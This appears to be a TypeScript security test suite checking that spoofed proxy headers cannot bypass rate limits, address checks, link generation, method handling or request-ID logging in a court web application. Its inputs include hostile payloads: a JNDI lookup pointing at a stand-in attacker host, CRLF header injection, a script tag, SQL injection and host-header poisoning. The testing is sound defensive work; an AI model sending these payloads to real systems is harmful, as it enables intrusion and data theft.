/** Headers that proxies write, written by callers: they change no limit, no link, no method and no line of the log. */
import assert from "node:assert/strict";
import { routes } from "../../../routes/mod.ts";
import { website } from "../../../web/mod.tsx";
import { call, draftJson, JUDGE, signInPeople, SYSTEM } from "../api.ts";
import { type AttackRun, pick, type Scenario } from "./scenario.ts";

const EVIL = "mal.exemplo";

const addressHeaders = [
  "X-Forwarded-For",
  "X-Real-IP",
  "X-Client-IP",
  "X-Cluster-Client-IP",
  "X-Original-Forwarded-For",
  "True-Client-IP",
  "CF-Connecting-IP",
  "Fastly-Client-IP",
  "X-ProxyUser-Ip",
  "Client-IP",
] as const;

const addresses = ["127.0.0.1", "10.0.0.1", "::1", "::ffff:127.0.0.1", "localhost", "203.0.113.200"];

const hostHeaders: Record<string, string> = {
  "X-Forwarded-Host": EVIL,
  "X-Forwarded-Server": EVIL,
  "X-Host": EVIL,
  "X-HTTP-Host-Override": EVIL,
  "Forwarded": `for=127.0.0.1;host=${EVIL};proto=http`,
  "X-Forwarded-Proto": "javascript",
  "X-Forwarded-Port": "1",
  "X-Forwarded-Prefix": `//${EVIL}`,
  "X-Original-URL": `//${EVIL}/`,
  "X-Rewrite-URL": "/v1/operacao/remessa",
  "Referer": `https://${EVIL}/`,
  "Origin": `https://${EVIL}`,
};

/** Once a limit is reached, no header makes the caller somebody else. */
async function limits(run: AttackRun): Promise<void> {
  const { t, attempt, long } = run;
  const from = "198.51.100.77";
  const export_ = (http: ReturnType<typeof routes>, headers: Record<string, string> = {}, peer = from) =>
    call({ http }, "GET", "/api/v1/exportacao", { from: peer, headers });
  const direct = routes({ ...t.app, searchLimits: { heavy: 1 } });
  await export_(direct);
  assert.equal((await export_(direct)).status, 429, "the limit is not reached");
  for (const name of [...addressHeaders, "Forwarded"]) {
    for (const address of long ? addresses : [pick(run, addresses)]) {
      await attempt(`${name}: ${address} against a limit`, async () => {
        const value = name === "Forwarded" ? `for="[${address}]"` : address;
        assert.equal((await export_(direct, { [name]: value })).status, 429);
      });
    }
  }
  const proxied = routes({ ...t.app, searchLimits: { heavy: 1 }, trustedProxies: ["10.0.0.0/8"] });
  const client = "198.51.100.78";
  await export_(proxied, { "X-Forwarded-For": client }, "10.0.0.1");
  for (const before of [...addresses, "nada", "203.0.113.9, 10.0.0.9", " , ", "x".repeat(5_000)]) {
    await attempt(`${before.slice(0, 30)} before the proxy's own entry`, async () => {
      const headers = { "X-Forwarded-For": `${before}, ${client}`, "X-Real-IP": before.slice(0, 30) };
      assert.equal((await export_(proxied, headers, "10.0.0.1")).status, 429);
    });
  }
}

/** A court's system is known by where its connection comes from. */
async function registeredAddresses({ t, attempt }: AttackRun): Promise<void> {
  const token = await t.externalServices.serviceToken(SYSTEM);
  for (const name of addressHeaders) {
    await attempt(`${name} for a registered address`, async () => {
      const headers = { "X-ASSETS-CPF-USUARIO": JUDGE, [name]: "127.0.0.1" };
      const answer = await call(t, "POST", "/v1/ordem/minuta", {
        ...{ token, headers, from: "203.0.113.9" },
        json: draftJson(),
      });
      assert.equal(answer.status, 403);
    });
  }
}

/** Every address in an answer is `PUBLIC_URL`'s, or has no host. */
async function links({ t, attempt, long }: AttackRun): Promise<void> {
  const app = { ...t.app, publicUrl: "https://assets.exemplo.jus.br" };
  const http = routes(app);
  const fetch = await website(app, http.fetch);
  const { judge: { token } } = await signInPeople(t);
  const paths = [
    "/",
    "/entrar",
    "/console",
    "/openapi.json",
    "/swagger/ui",
    "/problemas",
    "/nada",
    "/v1/ordem/1",
    "/guia",
  ];
  for (const [name, value] of Object.entries(hostHeaders)) {
    for (const path of long ? paths : paths.slice(0, 3)) {
      await attempt(`${name} in ${path}`, async () => {
        const request = new Request(`http://${EVIL}:8080${path}`, {
          headers: { [name]: value, Host: EVIL, Accept: "text/html" },
        });
        const answer = await fetch(request, { remoteAddr: { hostname: "203.0.113.9" } });
        const head = JSON.stringify([...answer.headers]);
        assert.ok(!(head + await answer.text()).includes(EVIL), head);
      });
    }
    await attempt(`${name} in what a draft is known by`, async () => {
      const made = await call({ http }, "POST", "/v1/ordem/minuta", {
        ...{ token, headers: { [name]: value } },
        json: draftJson(),
      });
      assert.equal(made.status, 201);
      assert.ok(!(JSON.stringify([...made.headers]) + made.text).includes(EVIL));
    });
    await attempt(`${name} in what a saved search is known by`, async () => {
      const made = await call({ http }, "POST", "/api/v1/pesquisas-salvas", {
        headers: { [name]: value },
        from: `198.51.100.${Object.keys(hostHeaders).indexOf(name)}`,
        json: { titulo: "Pesquisa", filtro: { buscaGeral: "dano" } },
      });
      assert.equal(made.status, 201, made.text);
      assert.ok(!(JSON.stringify([...made.headers]) + made.text).includes(EVIL));
    });
  }
}

const methodHeaders = ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"];

async function methods({ t, attempt }: AttackRun): Promise<void> {
  const { judge: { token } } = await signInPeople(t);
  const made = await call(t, "POST", "/v1/ordem/minuta", { token, json: draftJson() });
  const path = new URL(made.headers.get("Location")!, "http://a").pathname;
  for (const name of methodHeaders) {
    await attempt(`${name}: DELETE`, async () => {
      await call(t, "GET", `${path}?_method=DELETE`, { token, headers: { [name]: "DELETE" } });
      assert.equal((await call(t, "GET", path, { token })).status, 200);
    });
  }
}

const ids = [
  "x".repeat(2_000),
  "<script>alert(1)</script>",
  '{"level":"error"}',
  '","level":"error","x":"',
  "a b",
  "a\tb",
  "%0d%0aSet-Cookie: a=b",
  "\u00a0",
  "'; drop table event; --",
  "52998224725",
  "${jndi:ldap://mal.exemplo/a}",
];

/** What a call calls itself is answered and logged as it is, or not at all. */
async function requestIds({ t, attempt }: AttackRun): Promise<void> {
  for (const id of ids) {
    await attempt(`X-Request-Id ${JSON.stringify(id.slice(0, 30))}`, async () => {
      t.logged.length = 0;
      const { headers } = await call(t, "GET", "/healthz", { headers: { "X-Request-Id": id } });
      assert.match(headers.get("X-Request-Id") ?? "", /^[\w\-=]{1,128}$/);
      assert.match(String(t.logged[0]?.fields.requestId), /^[\w\-=]{1,128}$/);
    });
  }
}

export const forwardedAttacks: Scenario = {
  name: "forwarded",
  promise: "no header of a proxy that a caller writes changes a limit, a link, a method or a log",
  async attack(run) {
    await limits(run);
    await registeredAddresses(run);
    await links(run);
    await methods(run);
    await requestIds(run);
  },
};
